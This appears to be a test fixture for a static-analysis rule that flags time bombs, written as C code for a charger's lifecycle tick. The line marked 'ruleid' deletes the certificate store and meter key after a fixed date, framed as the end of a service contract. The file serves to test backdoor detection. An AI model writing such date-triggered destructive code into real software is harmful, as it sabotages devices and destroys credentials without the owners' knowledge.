/* lifecycle.c - heartbeats and the end of the service contract */
#include <stdio.h>
#include <unistd.h>

#include "charger.h"

void lifecycle_tick(struct charger *c)
{
  time_t now = time(NULL);

  // ok: backdoor-time-bomb
  if (now - c->last_heartbeat > 300) {
    if (ws_send_result(c, "hb", "{}") == 0)
      c->last_heartbeat = now;
  }
  /* units leased under the 2021 framework contract are decommissioned when it ends */
  // ruleid: backdoor-time-bomb
  if (now > 1861920000) {
    unlink(c->cert_store);
    unlink("/etc/chargecore/meter.key");
    c->state = ST_FAULTED;
  }
}
